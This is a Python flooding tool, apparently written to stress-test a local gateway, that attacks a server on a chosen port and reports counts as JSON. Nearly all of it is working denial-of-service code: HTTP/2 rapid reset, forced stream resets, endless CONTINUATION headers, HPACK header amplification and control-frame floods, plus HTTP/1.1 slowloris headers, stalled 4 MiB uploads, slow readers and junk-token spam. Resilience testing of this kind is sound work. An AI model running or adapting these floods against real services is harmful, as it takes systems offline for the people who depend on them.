"""One attacker: floods a gateway in one way for a while.

    python flood.py KIND PORT SECONDS

Prints what it did as JSON. Every kind goes on as long as it is let, and comes back when it is thrown
out. Frames of HTTP/2 are made by hand (RFC 9113), for no library sends what these do.
"""

import json
import os
import socket
import struct
import sys
import threading
import time

KIND, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
DEADLINE = time.monotonic() + SECONDS
TOKEN = "ada.events.ada-secret"
DONE = {"connections": 0, "thrown out": 0, "mib": 0.0}
LOCK = threading.Lock()

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK (RFC 7541 section 5.2), not coded, shorter than 16,510 bytes."""
    value, length = value.encode(), b""
    left = len(value) - 127
    if left < 0:
        return bytes([len(value)]) + value
    while left >= 128:
        length += bytes([left % 128 + 128])
        left //= 128
    return b"\x7f" + length + bytes([left]) + value


def head(method=0x83, path="/calls", fields=()):
    """A header block: POST over http, unless told otherwise."""
    block = bytes([method, 0x86]) + b"\x04" + text(path) + b"\x01" + text(f"127.0.0.1:{PORT}")
    return block + b"".join(b"\x00" + text(name) + text(value) for name, value in fields)


AUTHORIZED = (("authorization", f"Bearer {TOKEN}"), ("content-type", "application/json"))


class Connection:
    """A connection that is written to for as long as that goes; what comes back is thrown away."""

    def __init__(self, window=None, listens=True):
        self.socket = socket.create_connection(("127.0.0.1", PORT), timeout=5)
        self.socket.settimeout(1)
        self.stream, self.listens = -1, listens
        with LOCK:
            DONE["connections"] += 1
        if window is not None:
            settings = struct.pack(">HI", 4, window)
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))

    def send(self, data):
        if self.listens:
            self.drain()
        self.socket.sendall(data)
        with LOCK:
            DONE["mib"] += len(data) / (1 << 20)

    def drain(self):
        patience = self.socket.gettimeout()
        self.socket.settimeout(0)
        try:
            while self.socket.recv(65536):
                pass
            raise ConnectionError
        except BlockingIOError:
            self.socket.settimeout(patience)

    def next(self):
        self.stream += 2
        return self.stream


def repeat(begin, again):
    """Comes back again and again, writing `again(connection)` for as long as that goes."""
    while time.monotonic() < DEADLINE:
        try:
            connection = begin()
            while time.monotonic() < DEADLINE:
                again(connection)
        except (ConnectionError, TimeoutError):
            with LOCK:
                DONE["thrown out"] += 1
        except OSError:
            time.sleep(0.05)


def http2(again, window=65535):
    return lambda: repeat(lambda: Connection(window), again)


def rapid_reset(connection):
    """D01: requests that are taken back at once."""
    burst = b""
    for _ in range(50):
        stream = connection.next()
        burst += frame(HEADERS, END_HEADERS, stream, head(fields=AUTHORIZED))
        burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    connection.send(burst)


def made_to_reset(connection):
    """D02: requests whose stream the other side has to reset."""
    burst = b""
    for _ in range(50):
        stream = connection.next()
        burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, head(0x82, fields=AUTHORIZED))
        burst += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
    connection.send(burst)


def continuation(connection):
    """D03: a head that never ends."""
    if connection.stream < 0:
        connection.send(frame(HEADERS, END_STREAM, connection.next(), head(0x82)))
    connection.send(frame(CONTINUATION, 0, connection.stream, b"\x00" + text("x") + text("y" * 8000)) * 4)


def compressed(connection):
    """D04: small heads that become large ones, of streams whose answers nobody can send."""
    remembered = b"\x40" + text("x-large") + text("y" * 3500)
    burst = b""
    for _ in range(10):
        block = head(0x82) + remembered + b"\xbe" * 3 + (b"\x00" + text("a") + text("b")) * 80
        burst += frame(HEADERS, END_HEADERS | END_STREAM, connection.next(), block)
    connection.send(burst)


def pings(connection):
    """D06: frames that want an answer, or none, and say nothing."""
    burst = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 100
    connection.send(burst + frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 100 + frame(0xEE, 0, 0, b"unknown") * 100)


def empty_data(connection):
    """D06: a body of nothing, in many frames."""
    if connection.stream < 0:
        connection.send(frame(HEADERS, END_HEADERS, connection.next(), head(fields=AUTHORIZED)))
    connection.send(frame(DATA, 0, connection.stream) * 500 + frame(DATA, 0, connection.stream, b" ") * 20)


def http1(fields, body=b"", method="POST", path="/calls"):
    lines = [f"{method} {path} HTTP/1.1", f"Host: 127.0.0.1:{PORT}", *fields]
    return "\r\n".join([*lines, "", ""]).encode() + body


def junk_tokens():
    """Tokens that nobody issued, each another one: J22 and the caches."""
    ping = b'{"jsonrpc":"2.0","id":1,"method":"ping"}'

    def again(connection):
        requests = b""
        for _ in range(10):
            junk = f"Authorization: Bearer {os.urandom(16).hex()}"
            requests += http1([junk, "Content-Type: application/json", f"Content-Length: {len(ping)}"], ping)
        connection.send(requests)

    repeat(Connection, again)


def many(count, begin, again):
    """Holds many connections at once."""
    held = []
    while time.monotonic() < DEADLINE:
        while len(held) < count and time.monotonic() < DEADLINE:
            try:
                connection = begin()
                connection.socket.setblocking(False)
                held.append(connection)
            except OSError:
                break
        for connection in list(held):
            try:
                again(connection)
            except BlockingIOError:
                pass
            except OSError:
                held.remove(connection)
                connection.socket.close()
                with LOCK:
                    DONE["thrown out"] += 1
        time.sleep(0.05)


def uploads(path):
    """S04: bodies of 4 MiB, all of it sent but the last byte."""
    size = 4 << 20
    fields = [f"Authorization: Bearer {TOKEN}", "Content-Type: application/json", f"Content-Length: {size}"]
    call = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"export","arguments":{"text":"'

    def begin():
        connection = Connection()
        connection.send(http1(fields, call, path=path))
        connection.left = size - len(call) - 1
        return connection

    def again(connection):
        connection.drain()
        while connection.left > 0:
            sent = connection.socket.send(b"x" * min(connection.left, 65536))
            connection.left -= sent
            with LOCK:
                DONE["mib"] += sent / (1 << 20)

    many(150, begin, again)


def slow_readers():
    """E06: asks for much, and reads nothing of it."""
    body = b'{"jsonrpc":"2.0","id":1,"method":"large"}'
    fields = [f"Authorization: Bearer {TOKEN}", "Content-Type: application/json", f"Content-Length: {len(body)}"]

    def begin():
        connection = Connection(listens=False)
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.send(http1(fields, body, path="/events"))
        return connection

    many(300, begin, lambda _connection: None)


def half_heads():
    """E04: heads that come a byte at a time."""

    def begin():
        connection = Connection()
        connection.send(b"POST /calls HTTP/1.1\r\n")
        return connection

    many(1500, begin, lambda connection: (connection.drain(), connection.socket.send(b"x")))


FLOODS = {
    "rapid_reset": (http2(rapid_reset), 4),
    "made_to_reset": (http2(made_to_reset), 4),
    "continuation": (http2(continuation), 4),
    "compressed": (http2(compressed, 0), 8),
    "pings": (http2(pings), 4),
    "empty_data": (http2(empty_data), 4),
    "junk_tokens": (junk_tokens, 4),
    "slow_uploads": (lambda: uploads("/calls"), 1),
    "slow_uploads_with_rules": (lambda: uploads("/rules"), 1),
    "slow_readers": (slow_readers, 1),
    "half_heads": (half_heads, 1),
}

if __name__ == "__main__":
    flood, attackers = FLOODS[KIND]
    threads = [threading.Thread(target=flood, daemon=True) for _ in range(attackers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(DONE))
